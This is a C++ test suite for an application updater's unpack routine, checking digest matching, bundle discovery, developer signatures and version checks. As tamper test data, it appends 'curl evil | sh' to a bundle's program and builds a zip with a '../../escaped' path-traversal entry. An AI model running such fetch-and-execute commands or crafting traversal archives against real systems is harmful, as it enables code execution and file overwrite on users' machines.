// The whole chain on real archives: signed bundles zipped as a release would be, and
// hostile archives. The first failing check decides the message.
#include "update/Unpack.h"

#include <dirent.h>
#include <glib.h>

#include <regex>

#include "BundleKit.h"
#include "update/Digest.h"
#include "update/Signature.h"

using namespace mirovan;
using namespace kit;

namespace {

const std::string kDamaged = "The download was damaged.";
const std::string kNotUnpacked = "Couldn't unpack it.";
const std::string kOtherDeveloper = "The new version isn't signed by the same developer, so it wasn't installed.";
const std::string kWrongVersion = "The download isn't the version it said it was, so it wasn't installed.";

class Unpack : public ::testing::Test {
protected:
    fs::path base = scratch("unpack"), source = base / "source", work = base / "cache/org.mirovan.Test/update";
    std::string archive = (base / "update.zip").string(), ourTeam = makeKey((base / "key").string()).value_or("");
    RunningApp running{"org.mirovan.Test", ourTeam, 41, work.string()};

    void SetUp() override { ASSERT_TRUE(makeKey((base / "other-key").string())); }
    void TearDown() override { fs::remove_all(base); }

    // source/<name>, declaring `version` (plist XML), signed with `key` unless it is empty.
    void bundle(const std::string& name, const std::string& identifier = "org.mirovan.Test",
                const std::string& key = "key", const std::string& version = "<string>42</string>") {
        fs::path app = source / name;
        put(app / "Contents/Info.plist", infoPlist(identifier, "<key>CFBundleVersion</key>" + version));
        put(app / "Contents/Linux/prog", "#!/bin/sh\n");
        fs::permissions(app / "Contents/Linux/prog", fs::perms(0755));
        fs::create_directory_symlink("Linux", app / "Contents/Current");  // links as zip -y stores them
        fs::create_symlink("Current/prog", app / "Contents/prog");
        if (!key.empty()) {
            EXPECT_EQ(signBundle(app.string(), (base / key).string()), std::nullopt);
        }
    }
    void release(const std::string& name, const std::string& identifier = "org.mirovan.Test",
                 const std::string& key = "key", const std::string& version = "<string>42</string>") {
        fs::remove_all(source);
        bundle(name, identifier, key, version);
        zipFolder(source, ".", archive);
    }
    Unpacked run(std::int64_t version = 42) {
        return unpack(archive, sha256OfFile(archive).value_or(""), version, running);
    }
};

void expectRefused(const Unpacked& result, const std::string& message) {
    EXPECT_EQ(result.app, std::nullopt);
    EXPECT_EQ(result.message, message);
}

}  // namespace

TEST_F(Unpack, AcceptsTheSignedBundleOfTheAnnouncedBuild) {
    release("Renamed.app");  // the name inside the archive does not matter
    put(work / "old-uuid/Old.app/x", "left by an earlier run");
    Unpacked result = run();
    ASSERT_EQ(result.message, std::nullopt);
    fs::path app(result.app.value_or(""));
    EXPECT_EQ(app.filename(), "Renamed.app");
    EXPECT_EQ(app.parent_path().parent_path(), work);
    EXPECT_TRUE(std::regex_match(app.parent_path().filename().string(),
                                 std::regex("[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")));
    EXPECT_FALSE(fs::exists(work / "old-uuid"));
    EXPECT_EQ(team(app.string()), ourTeam);  // every mode, link and byte as signed
}

TEST_F(Unpack, DigestMustMatchExactlyAndAMismatchLeavesWorkAlone) {
    release("New.app");
    put(work / "stray", "left by an earlier run");
    std::string digest = sha256OfFile(archive).value(), upper = digest;
    for (char& c : upper) c = g_ascii_toupper(c);
    for (const std::string& given : {upper, digest + " ", " " + digest, digest.substr(1), std::string()}) {
        SCOPED_TRACE(given);
        expectRefused(unpack(archive, given, 42, running), kDamaged);
    }
    expectRefused(unpack((base / "missing.zip").string(), digest, 42, running), kDamaged);
    expectRefused(unpack(base.string(), digest, 42, running), kDamaged);  // a folder
    put(archive, "<!DOCTYPE html><title>404 Not Found</title>");
    expectRefused(unpack(archive, digest, 42, running), kDamaged);
    EXPECT_TRUE(fs::exists(work / "stray"));
    // With the page's own digest it gets as far as unpacking, which clears work first.
    expectRefused(run(), kNotUnpacked);
    EXPECT_FALSE(fs::exists(work / "stray"));

    release("New.app");
    fs::remove_all(work.parent_path());
    put(work.parent_path(), "a file where the work folder's parent should be");
    expectRefused(run(), g_strerror(ENOTDIR));
}

TEST_F(Unpack, NoUsableBundleAtTheTopLevel) {
    release("Folder/New.app");
    expectRefused(run(), kNotUnpacked);
    release("New.APP");  // the extension is compared as written
    expectRefused(run(), kNotUnpacked);
    writeZip(archive, {{"New.app/Contents/Info.plist", S_IFREG | 0644, "<plist/>"},
                       {"../../escaped", S_IFREG | 0644, "x"}});
    expectRefused(run(), kNotUnpacked);
    EXPECT_FALSE(fs::exists(work.parent_path() / "escaped"));

    fs::remove_all(source);  // a plain file named like a bundle is the candidate, and fails as one
    put(source / "x.app", "not a bundle");
    zipFolder(source, ".", archive);
    expectRefused(run(), kOtherDeveloper);
}

TEST_F(Unpack, OnlyTheFirstBundleInListingOrderIsExamined) {
    // Good and bad swapped between two archives: whichever the folder lists first decides,
    // so exactly one of the two is accepted.
    int accepted = 0;
    for (bool goodFirst : {true, false}) {
        fs::remove_all(source);
        bundle("P.app", "org.mirovan.Test", goodFirst ? "key" : "other-key");
        bundle("Q.app", "org.mirovan.Test", goodFirst ? "other-key" : "key");
        zipFolder(source, ".", archive);
        Unpacked result = run();
        fs::path folder = *fs::directory_iterator(work);
        DIR* listing = opendir(folder.c_str());
        std::string first;
        while (const dirent* entry = readdir(listing))
            if (first.empty() && entry->d_name[0] != '.') first = entry->d_name;
        closedir(listing);
        if ((first == "P.app") == goodFirst) {
            ++accepted;
            EXPECT_EQ(result.app, (folder / first).string());
        } else {
            expectRefused(result, kOtherDeveloper);
        }
    }
    EXPECT_EQ(accepted, 1);
}

TEST_F(Unpack, BundleMustComeFromTheSameDeveloper) {
    release("New.app", "org.other.App");  // signed with our key, even
    expectRefused(run(), kOtherDeveloper);
    release("New.app", "org.mirovan.Test", "");
    expectRefused(run(), kOtherDeveloper);
    release("New.app", "org.mirovan.Test", "other-key");
    expectRefused(run(), kOtherDeveloper);
    release("New.app");
    std::ofstream(source / "New.app/Contents/Linux/prog", std::ios::app) << "curl evil | sh\n";
    zipFolder(source, ".", archive);
    expectRefused(run(), kOtherDeveloper);
    release("New.app");
    running.team.reset();  // an unsigned running build takes no update at all
    expectRefused(run(), kOtherDeveloper);
}

TEST_F(Unpack, BundleMustDeclareTheAnnouncedBuildAboveTheRunningOne) {
    for (const char* version : {"<string>42.1</string>", "<string> 42</string>", "<integer>42</integer>",
                                "<string>43</string>", "<string></string>"}) {
        SCOPED_TRACE(version);
        release("New.app", "org.mirovan.Test", "key", version);
        expectRefused(run(42), kWrongVersion);
    }
    release("New.app", "org.mirovan.Test", "key", "<string>+42</string>");
    EXPECT_TRUE(run(42).app);
    expectRefused(run(43), kWrongVersion);  // the feed announced another build
    running.current = 42;                   // agreed, but not newer
    expectRefused(run(42), kWrongVersion);
}
